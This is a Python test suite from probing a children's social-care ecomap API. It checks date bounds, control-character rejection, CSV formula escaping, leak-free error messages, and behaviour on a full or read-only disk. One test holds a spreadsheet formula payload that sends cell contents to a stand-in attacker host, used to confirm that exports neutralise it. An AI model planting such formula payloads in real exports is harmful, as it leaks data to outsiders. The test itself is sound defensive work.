"""Faults found by fuzzing and probing: year-1 dates, control characters, spreadsheet
formulas, a full or read-only disk, and error messages that named other children's data."""

from __future__ import annotations

import csv
import io
import os
import subprocess
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree

import httpx
import pytest

from tests.security.conftest import Live, LiveFactory, root_can_mount

YEAR_ONE = ("0001-01-01", "1899-12-31", "2200-01-01", "9999-12-31")


@pytest.mark.parametrize("bad", YEAR_ONE)
def test_dates_out_of_range_are_422_naming_the_field(live: Live, bad: str) -> None:
    child = live.world.ids["a"]
    reads = [
        (f"/api/children/{child}/measures", "at"),
        (f"/api/children/{child}/measures/history", "at"),
        (f"/api/children/{child}/ecomap", "at"),
        (f"/api/children/{child}/document", "at"),
        (f"/api/children/{child}/diff?to=2024-01-01", "from"),
    ]
    with live.client(headers=live.bearer("wendy")) as client:
        for path, field in reads:
            answer = client.get(path, params={field: bad})
            assert answer.status_code == 422, (path, answer.text)
            [detail] = answer.json()["error"]["details"]
            assert detail["field"] == field and "1900-01-01" in detail["message"]
        wrote = client.post(f"/api/children/{child}/observations", json={
            "tie": next(t.id for t in live.world.docs["a"].ties), "on": bad, "by": "worker"})
        assert wrote.status_code == 422
        assert wrote.json()["error"]["details"][0]["field"] == "on"
    with live.client(headers=live.bearer("ada")) as admin:
        answer = admin.get("/api/audit", params={"since": bad + "T00:00:00+01:00"})
        assert answer.status_code == 422, answer.text
        assert answer.json()["error"]["details"][0]["field"] == "since"
    with live.client(headers=live.bearer("lou")) as leader:
        answer = leader.get("/api/dashboard", params={"at": bad})
        assert answer.status_code == 422 and answer.json()["error"]["details"][0]["field"] == "at"


@pytest.mark.parametrize("bad", ["Mia\x00", "Mia\x07", "Mia\x1b[2J", "Mia\nNew line", "\x7f"])
def test_control_characters_are_refused_naming_the_field(live: Live, bad: str) -> None:
    child = live.world.ids["a"]
    with live.client(headers=live.bearer("wendy")) as client:
        answer = client.patch(f"/api/children/{child}", json={"name": bad})
        assert answer.status_code == 422, answer.text
        assert answer.json()["error"]["details"][0]["field"] == "name"
        person = client.post(f"/api/children/{child}/people", json={
            "name": bad, "category": "friend"})
        assert person.status_code == 422
    assert live.world.store.get(child).child.name == live.world.docs["a"].child.name


def test_notes_keep_tabs_and_newlines_but_not_other_controls(live: Live) -> None:
    child = live.world.ids["a"]
    tie = next(t.id for t in live.world.docs["a"].ties)
    with live.client(headers=live.bearer("wendy")) as client:
        fine = client.post(f"/api/children/{child}/observations", json={
            "tie": tie, "on": "2025-02-01", "by": "worker", "note": "line one\n\tline two"},
            headers=live.world.write_as("wendy", child))
        assert fine.status_code == 201, fine.text
        bad = client.post(f"/api/children/{child}/observations", json={
            "tie": tie, "on": "2025-02-01", "by": "worker", "note": "bell\x07"})
        assert bad.status_code == 422 and bad.json()["error"]["details"][0]["field"] == "note"


def test_import_refuses_control_characters_and_exports_stay_well_formed(live: Live) -> None:
    doc = ('{"format": "ecomap/1", "child": {"id": "c-ctl", "name": "Bad\\u0007Name"}}\n'
           '{"format": "ecomap/1", "child": {"id": "c-ok", "name": "Line\\u2028Sep \\u00e9"}}\n')
    with live.client(headers=live.bearer("ada")) as admin:
        answer = admin.post("/api/import", content=doc,
                            headers={"Content-Type": "application/x-ndjson"})
        rows = [line for line in answer.text.splitlines() if line]
        assert '"child.name"' in rows[0] and "control characters" in rows[0]
    child = live.world.ids["a"]
    with live.client(headers=live.bearer("wendy")) as client:
        for kind in ("graphml", "gexf"):
            exported = client.get(f"/api/children/{child}/export.{kind}")
            assert exported.status_code == 200
            ElementTree.fromstring(exported.content)  # well-formed XML


def test_csv_cells_that_start_a_formula_are_shown_as_text(live: Live) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    with live.client(headers=live.bearer("lou")) as leader:
        answer = leader.get("/api/dashboard.csv", params={"team": formula})
    assert answer.status_code == 200, answer.text
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert rows, "the trend has rows"
    for row in rows:
        assert row["team"] == "'" + formula
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                       for cell in row.values() if isinstance(cell, str))


def test_errors_do_not_name_another_childs_ties(live: Live) -> None:
    """A worker who guesses a tie id of a child not theirs learns nothing of that child."""
    world = live.world
    theirs = next(t.id for t in world.docs["b"].ties)
    child = world.ids["a"]
    with live.client(headers=live.bearer("wendy")) as client:
        loaded = client.get(f"/api/children/{child}/document")
        doc = loaded.json()
        doc["ties"].append({"id": theirs, "between": [child, doc["people"][0]["id"]]})
        answer = client.put(f"/api/children/{child}/document", json=doc,
                            headers={"If-Match": loaded.headers["etag"]})
    assert answer.status_code == 422
    assert theirs not in answer.text and "another child" not in answer.text


# ---------------------------------------------------------------- a full or read-only disk

@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A 6 MB tmpfs of its own (needs root and a container that allows mounting)."""
    folder = tmp_path / "disk"
    if not root_can_mount(folder):
        pytest.skip("mounting a small tmpfs needs root")
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=6m", "tmpfs", str(folder)], check=True)
    try:
        yield folder
    finally:
        subprocess.run(["umount", "-l", str(folder)], check=False)


def _fill(folder: Path) -> Path:
    filler = folder / "filler"
    with filler.open("wb") as out:
        try:
            while True:
                out.write(b"\0" * 65536)
                out.flush()
                os.fsync(out.fileno())
        except OSError:
            pass
    return filler


def _save(client: httpx.Client, live: Live, n: int) -> httpx.Response:
    child = live.world.ids["a"]
    return client.patch(f"/api/children/{child}", json={"team": f"Team {n} " + "x" * 90},
                        headers={"If-Match": f'"{live.world.store.version(child)}"'})


def test_a_full_disk_is_503_saying_so_and_health_reports_it(
    live_world: LiveFactory, small_disk: Path, tmp_path: Path
) -> None:
    live = live_world(small_disk, accounts_db=str(tmp_path / "accounts.db"))
    with live.client(headers=live.bearer("wendy")) as client:
        assert client.get("/api/health").status_code == 200
        filler = _fill(small_disk)
        answers = [_save(client, live, n) for n in range(60)]
        failed = [a for a in answers if a.status_code != 200]
        assert failed, "writes went on succeeding on a full disk"
        first = failed[0]
        assert first.status_code == 503, first.text
        body = first.json()["error"]
        assert "disk is full" in body["message"] and "try again" in body["message"].lower()
        assert first.headers["retry-after"]
        health = client.get("/api/health")
        assert health.status_code == 503
        assert any(d["field"] == "store" and "full" in d["message"]
                   for d in health.json()["error"]["details"])
        filler.unlink()
        assert _save(client, live, 99).status_code == 200
        assert client.get("/api/health").status_code == 200


def test_health_reports_a_disk_gone_read_only(
    live_world: LiveFactory, small_disk: Path, tmp_path: Path
) -> None:
    """The disk under a running store turns read-only (here a read-only mount laid over
    its folder; files already open keep writing underneath, as they would on a real
    remount only until the next one is opened, so only health is checked here — the
    SQLITE_READONLY answer itself is ``api.errors.sqlite_fault``'s)."""
    live = live_world(small_disk, accounts_db=str(tmp_path / "accounts.db"))
    with live.client() as client:
        assert client.get("/api/health").status_code == 200
        subprocess.run(["mount", "--bind", str(small_disk), str(small_disk)], check=True)
        try:
            subprocess.run(["mount", "-o", "remount,bind,ro", str(small_disk)], check=True)
            health = client.get("/api/health")
            assert health.status_code == 503
            assert any(d["field"] == "store" and "read-only" in d["message"]
                       for d in health.json()["error"]["details"])
        finally:
            subprocess.run(["umount", str(small_disk)], check=True)
        assert client.get("/api/health").status_code == 200
